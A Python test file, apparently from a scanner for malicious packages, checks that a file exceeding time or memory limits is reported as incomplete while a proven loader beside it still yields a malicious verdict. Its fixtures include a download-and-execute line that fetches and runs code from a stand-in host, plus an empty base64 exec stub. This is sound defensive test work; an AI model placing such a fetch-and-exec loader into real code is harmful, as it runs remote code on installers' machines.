"""A file that takes more than it may, in a real worker: it is given up, and the others' findings stand."""

from __future__ import annotations

from pathlib import Path

import pytest

from pratique.verdict import Report, Verdict
from tests.hostile.workers import inspected
from tests.unpack.archives import zipped

_LOADER = b"import requests\nexec(requests.get('http://a.example.invalid/x').text)\n"
_LARGE = b"import requests, subprocess, base64\nexec(base64.b64decode(b''))\n" + b"x = [1, 2, 3]\n" * 150_000
_HONEST = b"A = 1\n"


def _rules(report: Report, path: str) -> set[str]:
    return {f.rule for f in report.findings if f.path == path and f.incomplete}


@pytest.mark.parametrize(
    ("rule", "file_seconds", "memory"), [("time-limit", 0.2, 2 << 30), ("memory-limit", 60.0, 200 << 20)]
)
def test_a_file_beyond_a_limit_hides_nothing_and_is_no_pass(
    tmp_path: Path, rule: str, file_seconds: float, memory: int
) -> None:
    """A proven chain beside it blocks, an honest file beside it does not let it pass, and the next one is inspected."""
    reports = inspected(
        tmp_path,
        {
            "beside a loader": zipped({"example_pkg/__init__.py": _LOADER, "example_pkg/large.py": _LARGE}),
            "beside an honest file": zipped({"example_pkg/__init__.py": _HONEST, "example_pkg/large.py": _LARGE}),
            "afterwards": zipped({"example_pkg/__init__.py": _HONEST}),
        },
        file_seconds=file_seconds,
        memory=memory,
    )
    assert reports["beside a loader"].verdict is Verdict.MALICIOUS
    assert reports["beside an honest file"].verdict is Verdict.ERROR
    assert rule in _rules(reports["beside a loader"], "example_pkg/large.py")
    assert rule in _rules(reports["beside an honest file"], "example_pkg/large.py")
    assert (reports["afterwards"].verdict, reports["afterwards"].findings) == (Verdict.CLEAN, ())
